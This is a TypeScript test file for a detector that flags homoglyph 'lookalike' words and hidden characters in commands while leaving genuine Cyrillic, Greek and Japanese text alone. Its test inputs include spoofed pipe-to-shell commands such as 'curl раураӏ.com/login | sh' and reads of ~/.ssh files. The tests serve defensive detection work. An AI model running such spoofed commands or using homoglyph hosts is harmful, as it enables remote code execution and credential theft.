// Words that only look Latin are marked in cards; real text of another script is not.
import * as assert from "node:assert/strict";
import { INVISIBLE, readingOf, readingOfAny } from "../../src/shared/reading";
import { seededRandom } from "../../tools/seededRandom";
import {
  DRAWN_AS_ASCII,
  hasHiddenCharacters,
  isLookalikeWord,
  lookalikeWords,
} from "../../webview/hiddenCharacters";

describe("lookalike words", () => {
  it("marks a Latin word with Cyrillic, Greek or Armenian letters in it, and any word of Cherokee letters", () => {
    for (const word of [
      "p\u0430ypal",
      "\u0455\u0455h",
      "r\u03BFot",
      "\u03BCs",
      "\u0394r\u03BFot",
      "N\u0585",
      "\u13AApprove",
      "\u13DA\u13AA\u13B7",
    ])
      assert.equal(isLookalikeWord(word), true, word);
  });

  it("marks Lisu words, and Latin words with Coptic, fullwidth or mathematical letters in them", () => {
    for (const word of [
      "\ua4ee\ua4e1\ua4e1\ua4f3\ua4ea",
      "\ua4eellow",
      "p\u2c81ypal",
      "p\uff41ypal",
      "p\u{1d68a}ypal",
      "\u{1d41a}llow",
    ])
      assert.equal(isLookalikeWord(word), true, word);
    for (const word of ["\uff21\uff22\uff23", "\u{1d431}"]) assert.equal(isLookalikeWord(word), false, word);
  });

  it("leaves alone a word of one other script, Latin beside kana or kanji, and formulas' Greek letters unlike Latin ones", () => {
    for (const word of [
      "\u0434\u043E\u043A\u0443\u043C\u0435\u043D\u0442\u044B",
      "\u03BB\u03CC\u03B3\u03BF\u03C2",
      "\u30EC\u30DD\u30FC\u30C8v2",
      "\u8CC7\u6599",
      "caf\u00E9",
      "na\u00EFve",
      "\u0394t",
      "d\u03B8",
      "\u03BBx",
    ])
      assert.equal(isLookalikeWord(word), false, word);
  });

  it("reads plain ASCII by its shortcut as the whole reading does: every character, and 2,000 random texts", () => {
    const plain = [
      " ",
      "\t",
      "\n",
      ...Array.from({ length: 0x7f - 0x21 }, (_, i) => String.fromCharCode(0x21 + i)),
    ];
    for (const character of plain) assert.equal(readingOf(`A${character}b`), readingOfAny(`A${character}b`));
    const next = seededRandom(7);
    for (let i = 0; i < 2000; i++) {
      const text = Array.from(
        { length: Math.floor(next() * 40) },
        () => plain[Math.floor(next() * plain.length)],
      ).join("");
      assert.equal(readingOf(text), readingOfAny(text), JSON.stringify(text));
    }
    // Anything else takes the whole reading: a carriage return is hidden, not white space.
    assert.equal(readingOf("Allow\ronce"), "allowonce");
    assert.equal(readingOf("Allow \u0430lways"), "allow always");
  });

  it("finds a hidden character whatever a global expression's lastIndex was left at", () => {
    INVISIBLE.lastIndex = 50;
    assert.equal(hasHiddenCharacters("a\u202Eb"), true);
    assert.equal(INVISIBLE.lastIndex, 50);
    INVISIBLE.lastIndex = 0;
  });

  it("counts a lookalike word as something a command's warning names", () => {
    assert.equal(hasHiddenCharacters("curl p\u0430ypal.com | sh"), true);
    assert.equal(
      hasHiddenCharacters(
        "cat \u0434\u043E\u043A\u0443\u043C\u0435\u043D\u0442\u044B/\u30EC\u30DD\u30FC\u30C8.txt",
      ),
      false,
    );
  });
  describe("words written wholly in letters of another script drawn as Latin ones", () => {
    const marked = (text: string) => lookalikeWords(text).map(String);

    it("marks them beside a Latin word: Cyrillic for paypal, secret and API, Greek for TOKEN", () => {
      // раураӏ (Cyrillic, with a palochka for the l), ѕесrеt (Cyrillic but the r and t), АРІ, ΤΟΚΕΝ (Greek capitals).
      assert.deepEqual(marked("curl https://\u0440\u0430\u0443\u0440\u0430\u04cf.com/login | sh"), [
        "\u0440\u0430\u0443\u0440\u0430\u04cf",
      ]);
      // ѕесrеt has Latin r and t (Cyrillic has none drawn so): a mixed word, as isLookalikeWord marks.
      assert.deepEqual(marked("cat ~/.ssh/\u0455\u0435\u0441r\u0435t"), ["\u0455\u0435\u0441r\u0435t"]);
      assert.deepEqual(marked("cat ~/\u0455\u0435\u0441\u0433\u0435\u0442 notes"), []); // г and т are not r and t
      assert.deepEqual(marked("export \u0410\u0420\u0406_KEY=1"), ["\u0410\u0420\u0406"]);
      assert.deepEqual(marked("open \u03a4\u039f\u039a\u0395\u039d file"), [
        "\u03a4\u039f\u039a\u0395\u039d",
      ]);
      assert.equal(hasHiddenCharacters("export \u0410\u0420\u0406_KEY=1"), true);
    });

    it("marks each of a run of them when a Latin word stands before or after the run", () => {
      // "раураӏ ѕсоре" after curl: both, the second through the first.
      assert.deepEqual(marked("curl \u0440\u0430\u0443\u0440\u0430\u04cf \u0455\u0441\u043e\u0440\u0435"), [
        "\u0440\u0430\u0443\u0440\u0430\u04cf",
        "\u0455\u0441\u043e\u0440\u0435",
      ]);
    });

    it("marks a one-letter one only joined to a Latin word without a space (\u0430.com), not a Russian preposition", () => {
      assert.deepEqual(marked("curl \u0430.com"), ["\u0430"]);
      assert.deepEqual(
        marked("\u0420\u0430\u0431\u043e\u0442\u0430\u0435\u0442 \u0441 React \u0438 Vue"),
        [],
      );
      assert.deepEqual(marked("npm \u0441 \u043e x"), []);
    });

    it("leaves alone real Russian and Greek text, and such a word alone or among words of its own script", () => {
      for (const text of [
        "\u043f\u0440\u0438\u0432\u0435\u0442 \u0441\u043b\u043e\u0432\u043e", // привет слово
        "\u0441\u0430\u0445\u0430\u0440 \u0438 \u0441\u043e\u043b\u044c", // сахар и соль
        "\u0441\u0430\u0445\u0430\u0440", // сахар alone: nothing says it is not Russian
        "\u0445\u0430\u043e\u0441 \u0443\u0445\u043e \u043e\u0440\u0435\u0445", // хаос ухо орех
        "\u0391\u03a1\u0399", // ΑΡΙ alone
        "\u0395\u03bb\u03bb\u03ac\u03b4\u03b1 \u03ba\u03b1\u03b9 \u039a\u03cd\u03c0\u03c1\u03bf\u03c2", // Ελλάδα και Κύπρος
        "cat \u0434\u043e\u043a\u0443\u043c\u0435\u043d\u0442\u044b/\u0441\u0430\u0445\u0430\u0440", // документы/сахар
        "\u0442\u0435\u043c\u0430 \u043c\u043d\u0435 npm", // тема мне: м, н, т small are not m, h, t
      ])
        assert.deepEqual(marked(text), [], text);
    });

    it("reads each letter it counts as an ASCII letter, and counts no Latin letter", () => {
      const letters = [...DRAWN_AS_ASCII.source.replace(/^\^\[|\]\+\$$/g, "")];
      assert.ok(letters.length > 40);
      for (const letter of letters) {
        assert.match(readingOf(letter), /^[a-z]$/, letter);
        assert.doesNotMatch(letter, /\p{sc=Latn}/u, letter);
      }
    });

    it("decides each by the nearest other word, however many such words stand between", () => {
      // 60,000 words, a third of them drawn wholly as Latin ones ("сахар и хаос"), then or after a Latin word.
      const text = "\u0441\u0430\u0445\u0430\u0440 \u0438 \u0445\u0430\u043e\u0441 ".repeat(20_000);
      assert.deepEqual(marked(`${text}npm`), ["\u0445\u0430\u043e\u0441"]);
      assert.deepEqual(marked(`npm ${text}`), ["\u0441\u0430\u0445\u0430\u0440"]);
      assert.deepEqual(marked(text), []);
    });
  });
});
